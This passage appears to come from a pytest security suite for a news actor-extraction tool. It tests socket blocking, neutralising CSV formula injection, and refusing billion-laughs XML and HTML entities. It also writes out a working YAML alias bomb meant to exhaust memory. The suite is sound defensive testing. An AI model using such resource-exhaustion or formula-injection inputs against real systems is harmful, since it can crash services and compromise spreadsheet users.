        + "".join(f"<p>{s} More words make this a paragraph.</p>" for s in GOOD_SENTENCES[:4])
        + "<img src='https://tracker.example/pixel.gif'></article></body></html>", encoding="utf-8")
    (corpus / "feed.jsonl").write_text(json.dumps({"url": "https://news.example/b", "text": good_text(5),
                                                   "published": "yesterday"}) + "\n", encoding="utf-8")
    nlp_mod.cached_nlp.cache_clear()  # load the model again, under the block
    try:
        result = actorgraph.extract([corpus], out=tmp_path / "out", jobs=1)
    finally:
        nlp_mod.cached_nlp.cache_clear()
    assert attempts == []
    assert set(result.documents["status"]) == {"ok"} and len(result.documents) == 4
    assert len(result.mentions) > 0
    record("security", "a whole run (model load, HTML, JSON lines) with sockets blocked",
           "completed; no socket opened, no name looked up", good_in=4,
           good_out=int((result.documents["status"] == "ok").sum()))


def test_csv_exports_neutralise_formulas(nasty, record):
    out = nasty["out"]
    import csv

    risky = []
    for name in TABLES:
        with open(out / f"{name}.csv", encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_START):
                        try:
                            float(cell)
                        except ValueError:
                            risky.append((name, cell))
    assert risky == []
    docs = pd.read_csv(out / "documents.csv", dtype=str).set_index("doc_id")
    assert docs.loc["formulas.csv:2", "title"] == "'" + FORMULA_CELLS["title"]
    assert docs.loc["formulas.csv:2", "source"] == "'" + FORMULA_CELLS["source"]
    # Parquet keeps the exact text: only the spreadsheet-facing CSV is defused.
    assert nasty["docs"].loc["formulas.csv:2", "title"] == FORMULA_CELLS["title"]
    record("security", "formula injection into CSV exports",
           "every cell starting with = + - @ tab or CR is prefixed with ' in the CSVs; Parquet keeps the text")


def test_billion_laughs_not_expanded(nasty, record):
    text = nasty["result"].texts.set_index("doc_id")["text"]["billion-laughs.html"]
    assert "lollol" not in text
    assert len(text) < 5_000
    assert "Vladimir Putin met Xi Jinping" in text
    record("security", "billion-laughs entities in an HTML page (lxml HTML parser)",
           f"entities left unexpanded; article text {len(text)} characters")


BAD_DICTIONARIES = {
    "no-name-column.csv": ("label,country\nGazprom,RUS\n", "no 'name' column"),
    "bad-country.csv": ("name,country\nGazprom,Atlantis\n", "Atlantis"),
    "bad-type.csv": ("name,type\nGazprom,SPACESHIP\n", "SPACESHIP"),
    "bad-date.csv": ("name,valid_from\nGazprom,last year\n", "not a date"),
    "ragged.csv": ("name,country\nGazprom,RUS,extra\n", "fields but the header has 2"),
    "invalid.yaml": ("- name: [unclosed\n", "not valid YAML"),
    "not-a-list.yaml": ("name: Gazprom\n", "expected a list of actors"),
    "unknown-kind.xlsx": ("PK\x03\x04", "unknown dictionary kind"),
}


@pytest.mark.parametrize("name", list(BAD_DICTIONARIES))
def test_bad_actor_dictionary_is_one_clear_line(tmp_path, record, name):
    content, expected = BAD_DICTIONARIES[name]
    corpus = tmp_path / "corpus"
    write_corpus(corpus, 1)
    bad = tmp_path / name
    bad.write_text(content, encoding="utf-8")
    res = cli(["run", str(corpus), "--out", str(tmp_path / "out"), "--actors", str(bad), "--jobs", "1", "-q"])
    assert res.exit_code == 1
    [line] = error_lines(res.output)
    message = " ".join(res.output.split())
    assert expected in message and name in message
    assert "Traceback" not in res.output
    assert not (tmp_path / "out" / "documents.parquet").exists()
    record("security", f"bad --actors dictionary ({name})", f"exit 1: {message}")


YAML_BOMB = "\n".join(
    ["- name: Lol 0", '  aliases: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [line for i in range(1, 9) for line in (f"- name: Lol {i}", f"  aliases: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")]
) + "\n"


def test_yaml_dictionary_alias_bomb_is_refused(tmp_path, record):
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(YAML_BOMB, encoding="utf-8")
    script = textwrap.dedent("""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (700_000_000, 700_000_000))
        from actorgraph.dictionaries import ActorDictionary, DictionaryError
        try:
            ActorDictionary.load(sys.argv[1])
        except DictionaryError as e:
            print("refused:", e)
            sys.exit(3)
        except MemoryError:
            sys.exit(4)
    """)
    try:
        proc = subprocess.run([sys.executable, "-c", script, str(bomb)], capture_output=True, text=True,
                              timeout=20)
    except subprocess.TimeoutExpired:
        record("security", "billion-laughs YAML (aliases) as --actors dictionary",
               "KNOWN BUG: still expanding aliases after 20 s")
        raise
    record("security", "billion-laughs YAML (aliases) as --actors dictionary",
           {3: f"refused: {proc.stdout.strip()}", 4: "KNOWN BUG: memory exhausted expanding aliases"}.get(
               proc.returncode, f"exit {proc.returncode}"))
    assert proc.returncode == 3, proc.stderr[-500:]


def test_billion_laughs_xml_gold_file_refused(tmp_path, record):
    from actorgraph.evaluate.readers import read_timeml

    tml = tmp_path / "laughs.tml"
    tml.write_text(BILLION_LAUGHS.split("<html>")[0] + "<TimeML><TEXT>&lol9;</TEXT></TimeML>", encoding="utf-8")
    with pytest.raises(ValueError) as info:  # defusedxml's EntitiesForbidden, or GoldFormatError
        read_timeml(tml)
    record("security", "billion-laughs XML as a TimeML gold file (evaluate)",
           f"refused before expansion: {type(info.value).__name__}: {info.value}")
